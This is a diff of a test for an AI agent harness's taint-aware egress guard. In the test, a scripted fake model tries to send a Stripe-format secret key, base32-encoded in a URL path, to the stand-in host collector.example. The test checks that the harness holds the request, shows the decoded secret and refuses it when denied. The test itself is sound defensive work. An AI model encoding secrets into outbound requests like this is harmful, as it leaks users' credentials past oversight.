@@ -45,9 +45,11 @@ async function chat(e: E2E, content: string): Promise<number> {
 
 describe('L08.1 taint-aware egress', () => {
   it('holds a tainted session’s fetch that carries an encoded secret, shows it decoded, and refuses it when denied', async () => {
-    // Keys mix cases and digits (about 6 bits per character); a hex-only value stays under 4 bits (see README).
+    // A vault value in a file taints the session; the leak index finds it in every encoding it knows (L02 then
+    // refuses the call), so the request carries another secret the session saw: a Stripe-format key, in base64.
     const deploy = `dk_${randomBytes(24).toString('base64url')}`;
-    const url = `https://collector.example/p/${base32(deploy)}`;
+    const stripe = `sk_live_${randomBytes(18).toString('base64').replace(/[+/=]/g, 'x')}`;
+    const url = `https://collector.example/p/${base32(stripe)}`;
     const script = (req: FakeRequest): FakeReply => {
       const user = JSON.stringify(req.messages.find((m) => m.role === 'user') ?? {});
       const step = req.messages.filter((m) => m.role === 'tool').length;
@@ -58,7 +60,7 @@ describe('L08.1 taint-aware egress', () => {
     };
     e2e = await startE2E('openai', script, undefined, { vault: { DEPLOY_KEY: deploy } });
     mkdirSync(path.join(e2e.workspace, 'notes'), { recursive: true });
-    writeFileSync(path.join(e2e.workspace, 'notes', 'keys.txt'), `deploy ${deploy}\n`);
+    writeFileSync(path.join(e2e.workspace, 'notes', 'keys.txt'), `deploy ${deploy}\nstripe ${stripe}\n`);
 
     // Untainted: the fetch goes ahead (and fails at L10: the name does not resolve here), nothing is held.
     expect(await chat(e2e, 'fetch only')).toBe(200);
@@ -69,7 +71,7 @@ describe('L08.1 taint-aware egress', () => {
     const shown = pending.view.reasons.join('\n');
     expect(shown).toContain('this session has seen secret material: a vault value in a tool result');
     expect(shown).toContain('collector.example is not in net.egress.trusted');
-    expect(shown).toMatch(/path value, decoded as base32: "(\[REDACTED:DEPLOY_KEY\]|dk_[A-Za-z0-9_-]{32})"/);
+    expect(shown).toMatch(/path value, decoded as base32: "(\[REDACTED\]|sk_live_[A-Za-z0-9]{24})"/);
     expect((await decide(e2e, pending.id, 'deny')).status).toBe(200);
     expect(await turn).toBe(200);
 
